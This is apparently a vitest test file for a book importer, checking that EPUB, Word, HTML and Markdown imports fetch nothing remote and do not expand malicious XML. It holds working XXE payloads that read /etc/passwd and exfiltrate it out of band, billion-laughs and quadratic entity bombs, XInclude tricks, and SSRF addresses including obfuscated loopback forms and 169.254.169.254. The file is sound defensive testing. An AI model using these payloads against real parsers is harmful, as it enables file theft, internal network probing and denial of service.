import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toText } from '@authorworks/manuscript/text';
import { SVG } from '../compile/pictures.ts';
import type { ImportedBook, ImportedNode } from '../../src/import/imported-book.ts';
import { cleanSvg } from '../../src/image/clean-svg.ts';
import { docxOf, paragraph, run } from './build-docx.ts';
import { epubOf } from './build-epub.ts';
import { codes, read } from './outline.ts';

/** Counts whoever asks it for anything. */
const listen = async (): Promise<{ origin: string; port: number; hits: () => string[]; close: () => void }> => {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.end('<!ENTITY fetched "FETCHED">');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, port, hits: () => hits, close: () => server.close() };
};

const textOf = ({ nodes, title, description, authors }: ImportedBook): string => {
  const walk = (node: ImportedNode): string =>
    [node.title, node.doc ? toText(node.doc) : '', ...node.children.map(walk)].join('\n');
  return [title, description, ...authors, ...nodes.map(walk)].join('\n');
};

const laughs = (name: string): string => {
  const lines = Array.from({ length: 12 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`);
  return `<!DOCTYPE ${name} [<!ENTITY l0 "HAHA">${lines.join('')}]>`;
};
const quadratic = (name: string): string => `<!DOCTYPE ${name} [<!ENTITY a "${'HAHA'.repeat(20_000)}">]>`;

describe('XML that wants more than to be read (fault 19)', () => {
  let stranger: Awaited<ReturnType<typeof listen>>;
  beforeAll(async () => {
    stranger = await listen();
  });
  afterAll(() => stranger.close());

  /** DTDs with the entity that they want expanded. */
  const attacks = (root: string): [dtd: string, reference: string][] => [
    [`<!DOCTYPE ${root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, '&x;'],
    [`<!DOCTYPE ${root} [<!ENTITY x SYSTEM "${stranger.origin}/entity">]>`, '&x;'],
    [`<!DOCTYPE ${root} PUBLIC "-//X//Y" "${stranger.origin}/dtd">`, '&fetched;'],
    [
      `<!DOCTYPE ${root} SYSTEM "${stranger.origin}/dtd" [<!ENTITY % p SYSTEM "${stranger.origin}/parameter"> %p;]>`,
      '&fetched;',
    ],
    [
      `<!DOCTYPE ${root} [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY s SYSTEM '${stranger.origin}/?%f;'>">%e;]>`,
      '&s;',
    ],
    [laughs(root), '&l12;'],
    [quadratic(root), '&a;'.repeat(20_000)],
    [`<?xml-stylesheet href="${stranger.origin}/style.xsl" type="text/xsl"?>`, ''],
  ];
  const include = (): string =>
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${stranger.origin}/include"/>`;

  const places: Readonly<Record<string, (dtd: string, reference: string) => readonly [string, Uint8Array | string]>> = {
    'the package document of an EPUB': (dtd, reference) => [
      'a.epub',
      epubOf({
        texts: { 'a.xhtml': '<p>Safe.</p>' },
        packageProlog: dtd,
        metadata: `<dc:creator>A${reference}</dc:creator>`,
      }),
    ],
    'a text of an EPUB': (dtd, reference) => [
      'a.epub',
      epubOf({ texts: { 'a.xhtml': `<p>Safe.${reference}</p>${include()}` }, textProlog: dtd }),
    ],
    'the contents of an EPUB 2': (dtd, reference) => [
      'a.epub',
      epubOf({
        version: 2,
        texts: { 'a.xhtml': '<p>Safe.</p>' },
        contents: [['a.xhtml', `A${reference}`]],
        packageProlog: dtd,
      }),
    ],
    'a drawing of an EPUB': (dtd, reference) => [
      'a.epub',
      epubOf({
        texts: { 'a.xhtml': '<p>Safe.</p><img src="a.svg" alt="x"/>' },
        files: { 'a.svg': ['image/svg+xml', `<?xml version="1.0"?>${dtd}${SVG.replace('A buoy', `x${reference}`)}`] },
      }),
    ],
    'a Word document': (dtd, reference) => [
      'a.docx',
      docxOf({ prolog: dtd, body: paragraph(`${run('Safe.')}<w:r><w:t>${reference}</w:t></w:r>`) + include() }),
    ],
    'the properties of a Word document': (dtd, reference) => [
      'a.docx',
      docxOf({
        body: paragraph(run('Safe.')),
        core: `<?xml version="1.0"?>${dtd}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>T${reference}</dc:title></cp:coreProperties>`,
      }),
    ],
    'a web page': (dtd, reference) => [
      'a.html',
      `${dtd}<html><body><p>Safe.${reference}</p>${include()}</body></html>`,
    ],
  };

  it.each(Object.keys(places))('reads and fetches nothing, and does not grow: %s', async (name) => {
    for (const [dtd, reference] of attacks('x')) {
      const [fileName, bytes] = places[name]?.(dtd, reference) ?? ['', ''];
      const book = await read(fileName, bytes);
      const text = textOf(book);
      expect(text).toContain('Safe.');
      expect(text).not.toMatch(/root:|FETCHED|HAHAHAHA/);
      expect(text.length + JSON.stringify(book.notes).length).toBeLessThan(200_000);
      for (const { bytes: picture } of book.images) expect(picture.length).toBeLessThan(100_000);
    }
    expect(stranger.hits()).toEqual([]);
  });

  it('takes no picture and no style from another computer, and says which were left out (fault 21)', async () => {
    const hosts = [
      stranger.origin,
      `http://localhost:${stranger.port}`,
      `http://[::1]:${stranger.port}`,
      `http://[::ffff:127.0.0.1]:${stranger.port}`,
      `http://2130706433:${stranger.port}`,
      `http://0177.0.0.1:${stranger.port}`,
      `http://0x7f.1:${stranger.port}`,
      `http://127.1:${stranger.port}`,
      `http://user@127.0.0.1:${stranger.port}`,
      `//127.0.0.1:${stranger.port}`,
      'http://169.254.169.254',
      'file://',
      'ftp://127.0.0.1',
    ];
    const html = hosts
      .map(
        (host) =>
          `<p style="background:url(${host}/style)">Safe.</p><img src="${host}/image.png" alt="x" srcset="${host}/set.png 2x"/><object data="${host}/object"></object><iframe src="${host}/frame"></iframe><audio src="${host}/audio"></audio><link rel="stylesheet" href="${host}/sheet.css"/><svg><image href="${host}/svg.png"/></svg>`,
      )
      .join('');
    const head = hosts
      .map((host) => `<link rel="stylesheet" href="${host}/sheet.css"/><style>@import url(${host}/import.css);</style>`)
      .join('');
    const svgs = hosts.map((host) =>
      SVG.replace(
        '<rect',
        `<image href="${host}/x.png"/><style>@import "${host}/y.css"; rect { fill: url(${host}/z.svg#a) }</style><rect`,
      ),
    );
    const files = Object.fromEntries(svgs.map((svg, index) => [`p${index}.svg`, ['image/svg+xml', svg] as const]));
    const shown = svgs.map((_, index) => `<img src="p${index}.svg" alt="x"/>`).join('');
    const relations = hosts.map((host, index) => [`r${index}`, 'image', `${host}/word.png`, true] as const);
    const pictures = hosts.map(
      (_, index) =>
        `<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="r${index}" r:embed="r${index}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
    );
    const template = ['t', 'attachedTemplate', `${stranger.origin}/template.dotm`, true] as const;
    const books = [
      await read('a.html', `<html><head>${head}</head><body>${html}</body></html>`),
      await read('a.md', `Safe.\n\n${hosts.map((host) => `![x](${host}/markdown.png)`).join('\n\n')}\n\n${html}`),
      await read('a.epub', epubOf({ texts: { 'a.xhtml': html + shown }, head, files })),
      await read(
        'a.docx',
        docxOf({ body: paragraph(run('Safe.')) + pictures.join(''), relations: [...relations, template] }),
      ),
    ];
    for (const book of books) {
      expect(textOf(book)).toContain('Safe.');
      expect(codes(book).some((code) => /image/.test(code))).toBe(true);
      for (const { bytes } of book.images)
        expect(Buffer.from(bytes).toString()).not.toMatch(/(?:127|localhost|169\.254|2130706433|x7f)/);
    }
    expect(stranger.hits()).toEqual([]);
  });

  it('leaves drawings that are all laughter alone', () => {
    expect(
      cleanSvg(`${laughs('svg')}<svg xmlns="http://www.w3.org/2000/svg"><text>&l12;</text></svg>`)?.svg ?? '',
    ).not.toMatch(/HAHA/);
  });
});
